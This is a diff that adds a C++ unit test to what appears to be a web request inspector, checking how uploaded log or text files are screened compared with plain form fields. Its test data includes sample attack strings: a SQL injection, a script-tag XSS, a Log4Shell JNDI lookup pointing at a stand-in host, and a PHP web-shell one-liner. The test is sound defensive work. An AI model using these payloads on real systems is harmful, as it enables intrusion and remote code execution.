@@ -137,6 +137,29 @@ TEST(Inspector, Base64PathSegmentIsCheckedAsAFilePath) {
   EXPECT_FALSE(Flagged(testing::Inspect(testing::Get("/share/aGVsbG8gd29ybGQgZnJvbSBhbm4"))));
 }
 
+// An uploaded text file (a log, notes) is judged for markup, server-side code, templates and
+// logger lookups only: logs record SQL errors, shell lines and the attacks they saw. The same
+// text as a form field, with no file name, is judged by every detector.
+TEST(Inspector, UploadedTextFilesAreJudgedForWhatTheyCanCarry) {
+  auto upload = [](const std::string& filename, const std::string& content) {
+    std::string body = "--b0undary\r\nContent-Disposition: form-data; name=\"file\"" +
+                       (filename.empty() ? std::string() : "; filename=\"" + filename + "\"") +
+                       "\r\nContent-Type: text/plain\r\n\r\n" + content + "\r\n--b0undary--\r\n";
+    return testing::Inspect(
+        testing::Post("/upload", "multipart/form-data; boundary=b0undary", body));
+  };
+  const std::string log =
+      "1.2.3.4 - - [01/Jan/2024:10:00:00 +0000] \"GET /?id=1' or 1=1-- HTTP/1.1\" 403\n"
+      "Jan  1 10:00:01 host CRON[456]: (root) CMD (cd / && run-parts /etc/cron.hourly)\n";
+  EXPECT_FALSE(Flagged(upload("access.log", log))) << upload("access.log", log).explanation;
+  EXPECT_TRUE(Flagged(upload("", log)));
+  for (const char* content : {"<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
+                              "<?php system($_GET[c]); ?>"}) {
+    Verdict v = upload("notes.txt", content);
+    EXPECT_TRUE(Flagged(v)) << content << " -> " << v.explanation;
+  }
+}
+
 TEST(Inspector, WeakSignalsCorroborateOnlyInTheSameField) {
   // Two weak custom signals (confidence 0.45 -> 4 points each) of different classes.
   auto in = Make(R"({"custom_rules":[
